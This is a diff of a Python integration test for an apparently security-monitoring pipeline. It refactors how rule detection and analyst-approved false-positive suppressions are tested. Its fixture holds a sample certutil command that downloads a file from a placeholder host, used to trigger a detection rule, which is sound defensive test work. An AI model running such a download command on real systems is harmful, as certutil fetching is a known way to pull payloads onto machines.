@@ -11,22 +11,21 @@ import pytest
 from sqlalchemy import create_engine
 from sqlalchemy.orm import Session
 
-from secustream.analyzer.rules import RulesEngine, RuleSet
-from secustream.analyzer.rules_tier import RulesTier
-from secustream.analyzer.tiers import RoutingContext
+from secustream.analyzer.detection import Detection
+from secustream.analyzer.native import RulesEngine, RuleSet
+from secustream.analyzer.native.suppressions import SuppressionIndex, sync_from_feedback
 from secustream.config import Settings
 from secustream.events import SecurityEvent
 from secustream.generator import EventGenerator
 from secustream.generator.runner import produce_generated
 from secustream.messaging.client import TrackedProducer, producer_config
 from secustream.state import MemoryState
-from secustream.storage import queries
-from secustream.storage.models import Feedback, RuleSuppression, User
+from secustream.storage import feedback as feedback_store
+from secustream.storage import registry
 from secustream.storage.repository import AnalyzedEvent, VerdictRepository
-from secustream.training import registry
+from secustream.storage.tables import Feedback, RuleSuppression, User
 from secustream.training.classifier import TrainConfig
 from secustream.training.pipeline import TrainPlan, run_training
-from secustream.training.suppressions import SuppressionIndex, sync_from_feedback
 
 from .pipeline_helpers import make_settings, rows, running_worker, wait_for
 
@@ -83,16 +82,14 @@ def test_train_registers_promotes_rejects_worse_and_running_analyzer_swaps(
 
 def _model_reasons(pg_url: str, version: str) -> int:
     found = rows(pg_url, "select count(*) from verdicts where tier = 'model' and reason like :p",
-                 p=f"threat-tiny {version}:%")
+                 p=f"route rules>model: threat-tiny {version}:%")
     return int(found[0][0])  # type: ignore[arg-type]
 
 
 def _model_version(worker) -> int:  # type: ignore[no-untyped-def]
-    for tier in worker.router.tiers:
-        inner = getattr(tier, "tier", tier)  # unwrap the metrics wrapper
-        if getattr(inner, "name", "") == "model":
-            return int(inner.source.version)
-    raise AssertionError("the worker has no model tier")
+    model = worker.router.model
+    assert model is not None, "the worker has no model tier"
+    return int(model.source.version)
 
 
 def test_false_positive_feedback_creates_a_suppression_the_rules_tier_honours(pg_url):
@@ -105,10 +102,11 @@ def test_false_positive_feedback_creates_a_suppression_the_rules_tier_honours(pg
                              process={"name": "certutil.exe",
                                       "command_line": "certutil.exe -urlcache -split -f http://x/a.bin a.bin"})
 
-    tier = RulesTier(RulesEngine(ruleset, MemoryState()), "test")
+    detection = Detection([RulesEngine(ruleset, MemoryState())], "test")
     hit = certutil("10.20.0.7")
-    [verdict] = tier.analyze([hit], [hit.model_dump(mode="json")], [None], RoutingContext())
-    assert verdict is not None and "PROC-CERTUTIL-DOWNLOAD" in verdict.rule_ids
+    [found] = detection.detect([hit], [hit.model_dump(mode="json")])
+    verdict = found.verdict
+    assert "PROC-CERTUTIL-DOWNLOAD" in verdict.rule_ids
     VerdictRepository(engine).store([AnalyzedEvent(hit, verdict)])
     with Session(engine) as s, s.begin():
         analyst = User(username="ana", hashed_password="x", role="analyst")
@@ -128,16 +126,15 @@ def test_false_positive_feedback_creates_a_suppression_the_rules_tier_honours(pg
 
     same, other = certutil("10.20.0.7"), certutil("10.20.0.99")
     # an analyst's false positive is a proposal: the rule still fires until an admin approves it
-    proposed = RulesTier(RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine)), "test")
-    [v_proposed] = proposed.analyze([same], [same.model_dump(mode="json")], [None], RoutingContext())
-    assert v_proposed is not None and "PROC-CERTUTIL-DOWNLOAD" in v_proposed.rule_ids
+    proposed = Detection([RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine))], "test")
+    [v_proposed] = (d.verdict for d in proposed.detect([same], [same.model_dump(mode="json")]))
+    assert "PROC-CERTUTIL-DOWNLOAD" in v_proposed.rule_ids
     with engine.begin() as conn:
-        queries.approve_suppression(conn, sup_id, analyst_id, {})
+        feedback_store.approve_suppression(conn, sup_id, analyst_id, {})
 
-    suppressed = RulesTier(RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine)), "test")
-    v_same, v_other = suppressed.analyze([same, other], [same.model_dump(mode="json"),
-                                                        other.model_dump(mode="json")], [None, None],
-                                         RoutingContext())
-    assert v_same is not None and v_same.rule_ids == [] and not v_same.conclusive
-    assert v_other is not None and "PROC-CERTUTIL-DOWNLOAD" in v_other.rule_ids
+    suppressed = Detection([RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine))], "test")
+    v_same, v_other = (d.verdict for d in suppressed.detect(
+        [same, other], [same.model_dump(mode="json"), other.model_dump(mode="json")]))
+    assert v_same.rule_ids == []
+    assert "PROC-CERTUTIL-DOWNLOAD" in v_other.rule_ids
     engine.dispose()
